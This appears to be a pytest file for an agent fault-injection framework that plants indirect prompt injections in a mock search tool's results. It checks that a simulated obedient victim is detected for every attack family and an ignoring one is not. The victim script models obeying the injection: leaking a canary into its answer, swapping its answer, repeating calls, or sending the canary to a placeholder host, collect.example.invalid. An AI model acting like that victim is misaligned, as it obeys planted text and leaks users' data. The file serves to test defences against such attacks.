"""Every family of the library on the wire: a victim that obeys is seen, and a deaf one is not."""

from __future__ import annotations

import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml

from faultwire.agents._process import Processes
from faultwire.checks._effects import effects
from faultwire.faults.attack._library import registry
from faultwire.profile.load import parse
from faultwire.runner.launch import LaunchSettings, start_run

SAID = "It is 391."
VICTIM = r"""
import os, re, sys, urllib.error, urllib.request
base, shows, word = sys.argv[1:4]
direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
tool = os.environ["FAULTWIRE_URL_TOOL"] + "/search"
def ask(url, opener=direct):
    try:
        return opener.open(url, timeout=30).read().decode()
    except urllib.error.URLError:
        return ""
text = ask(tool + "?q=17*23")
found = re.search(r"fwc[0-9a-f]{12}", text)
canary = found.group() if found and shows != "deaf" else ""
answer = "It is 391."
if canary and shows == "answer":
    answer += " " + canary
elif canary and shows == "word":
    answer = word
elif canary and shows == "argument":
    ask(tool + "?q=" + canary)
elif canary and shows == "request":
    ask("http://collect.example.invalid/" + canary, urllib.request.build_opener())
elif canary and shows == "repetition":
    for number in range(6):
        ask(tool + "?q=17*23&page=%d" % number)
print(answer)
"""


class Tool(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b'{"found": 391, "note": "from the archive"}'
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_line: Any) -> None:
        return


@pytest.fixture
def port() -> Iterator[int]:
    with ThreadingHTTPServer(("127.0.0.1", 0), Tool) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port
        server.shutdown()


def attack(family: str, port: int) -> Any:
    entry = {"indirect_injection": {"families": [family]}, "on": {"tool": "search"}, "trigger": {"first": 1}}
    tools = {"search": {"url": f"http://127.0.0.1:{port}/search*"}}
    return parse(yaml.safe_dump({"name": "attack", "tools": tools, "faults": [entry]}), "attack")


def test_a_victim_of_every_family_is_seen_and_a_deaf_one_is_not(here: Path, port: int) -> None:
    seen: dict[str, set[str]] = {"victim": set(), "deaf": set()}
    with start_run(LaunchSettings("bench", reverse={"tool": f"http://127.0.0.1:{port}"})) as run:
        for name, family in registry().items():
            for who, kept in seen.items():
                session = f"{who}-{name}"
                payload = chosen(run, session, attack(name, port), family)
                shows = payload.shows if who == "victim" else "deaf"
                environment = run.open_session(f"{session}-2", attack(name, port), 1, session)
                command = [sys.executable, "-I", "-c", VICTIM, "", shows, payload.word or ""]
                ended = Processes().run(command, environment, timeout_s=60)
                assert ended.code == 0, ended.stderr
                assert run.close_session(f"{session}-2").voids == ()
                (found,) = effects(run.history(f"{session}-2"), ended.stdout)
                assert (found.family, found.payload) == (name, payload.name)
                if found.result == "obeyed":
                    kept.add(name)
        run.folder.end("finished")
    assert seen == {"victim": set(registry()), "deaf": set()}


def chosen(run: Any, session: str, profile: Any, family: Any) -> Any:
    """The text that the dice of a session choose: what a deaf agent meets first."""
    environment = run.open_session(session, profile, 1, session)
    ended = Processes().run([sys.executable, "-I", "-c", VICTIM, "", "deaf", ""], environment, timeout_s=60)
    run.close_session(session)
    (found,) = effects(run.history(session), ended.stdout)
    return next(one for one in family.payloads if one.name == found.payload)
